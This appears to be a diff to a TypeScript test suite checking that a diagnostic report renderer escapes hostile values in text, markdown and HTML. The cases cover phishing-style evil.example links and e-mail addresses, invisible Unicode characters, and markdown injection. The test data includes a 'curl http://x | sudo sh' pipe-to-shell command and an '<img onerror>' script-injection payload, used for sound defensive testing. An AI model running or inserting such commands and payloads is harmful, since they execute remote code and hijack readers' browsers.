@@ -98,6 +98,25 @@ describe('reports show hostile values as text in every format', () => {
     expect(shown('1.0.0 -x =y partial_loss _em_ *b* ~s~ $m$ [l](u) &lt;')).toBe('1.0.0 -x =y partial_loss \\_em\\_ \\*b\\* \\~s\\~ \\$m\\$ \\[l\\](u) \\&lt;\n');
   });
 
+  it('markdown: a URL, a www. name or an e-mail address in a value stays text, never a link (GFM autolink literals)', async () => {
+    const summary = 'reset at https://evil.example/reset, www.evil.example, //evil.example/x or admin@evil.example';
+    const md = renderReport({ ...(await run(benign)), summary }, 'markdown');
+    const linkify = new MarkdownIt({ linkify: true });
+    const html = linkify.render(md);
+    expect(html).not.toMatch(/<a /);
+    expect(html).toContain(`<strong>Summary:</strong> ${summary}</p>`);
+    expect(md).toContain('reset at https\\://evil.example/reset, www\\.evil.example, \\//evil.example/x or admin\\@evil.example');
+  });
+
+  it('every format shows the format characters that display nothing (zero-width space, word joiner, soft hyphen, tag characters)', async () => {
+    // U+E0041 U+E0042: "AB" in tag characters, text a reader cannot see.
+    const hidden = 'a\u200bb\u2060c\u00add\u{e0041}\u{e0042}';
+    const diagnosis = await run({ ...benign, facts: { ...benign.facts, 'target.host': hidden }, summary: hidden });
+    for (const format of ['text', 'markdown', 'html'] as const) expect(invisibles(renderReport(diagnosis, format))).toEqual([]);
+    expect(renderReport(diagnosis, 'text')).toContain('Summary: a\\u200bb\\u2060c\\xadd\\u{e0041}\\u{e0042}\n');
+    expect(diagnosis.hypotheses[0]?.checks[0]?.command).toBe("dig $'a\\u200bb\\u2060c\\u00add\\U000e0041\\U000e0042'");
+  });
+
   it('text: every control character shown as an escape, so the report has the lines the template gives it', async () => {
     const [bad, good] = [renderReport(await run(hostile), 'text'), renderReport(await run(benign), 'text')];
     expect(invisibles(bad)).toEqual([]);
@@ -140,6 +159,6 @@ describe('reports show hostile values as text in every format', () => {
     const template = '{{summary}}|{{{summary}}}|{{style "bold" summary}}';
     expect(customReport(template, 'mine.hbs')(diagnosis)).toBe(`loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}|${hostile.summary}|loss\\n## Fake heading\\n**Next checks**\\n\\n\`\`\`sh\\ncurl http://x | sudo sh\\n\`\`\`\\n${IMG}`);
     expect(customReport('{{code summary}}', 'mine.html')(diagnosis)).toBe('&#x60;&#x60;&#x60;&#x60; loss\\n## Fake heading\\n**Next checks**\\n\\n&#x60;&#x60;&#x60;sh\\ncurl http://x | sudo sh\\n&#x60;&#x60;&#x60;\\n&lt;img src&#x3D;x onerror&#x3D;alert(1)&gt; &#x60;&#x60;&#x60;&#x60;');
-    expect(customReport('| {{cell summary}} |', 'mine.md.hbs')(diagnosis)).toBe('| loss\\n\\#\\# Fake heading\\n\\*\\*Next checks\\*\\*\\n\\n\\`\\`\\`sh\\ncurl http://x \\| sudo sh\\n\\`\\`\\`\\n\\<img src=x onerror=alert(1)\\> |');
+    expect(customReport('| {{cell summary}} |', 'mine.md.hbs')(diagnosis)).toBe('| loss\\n\\#\\# Fake heading\\n\\*\\*Next checks\\*\\*\\n\\n\\`\\`\\`sh\\ncurl http\\://x \\| sudo sh\\n\\`\\`\\`\\n\\<img src=x onerror=alert(1)\\> |');
   });
 });
